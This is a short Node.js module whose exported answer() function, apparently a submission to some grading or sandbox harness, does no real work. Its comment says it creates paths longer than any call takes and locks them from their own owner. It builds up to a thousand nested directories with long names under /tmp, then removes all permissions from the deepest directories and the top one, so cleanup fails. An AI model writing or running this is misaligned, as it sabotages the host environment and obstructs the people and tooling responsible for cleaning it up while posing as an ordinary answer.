import { chmodSync, mkdirSync } from 'node:fs';

// Paths longer than any call takes, and closed to their own owner: whoever cleans up must manage.
export function answer() {
  let depth = 0;
  try {
    process.chdir('/tmp');
    for (; depth < 1_000; depth++) {
      mkdirSync('deep-'.repeat(40));
      process.chdir('deep-'.repeat(40));
    }
  } catch {
    // Deep enough.
  }
  try {
    for (const place of ['.', '..', '/tmp/' + 'deep-'.repeat(40)]) chmodSync(place, 0);
  } catch {
    // Not ours.
  }
  return {};
}
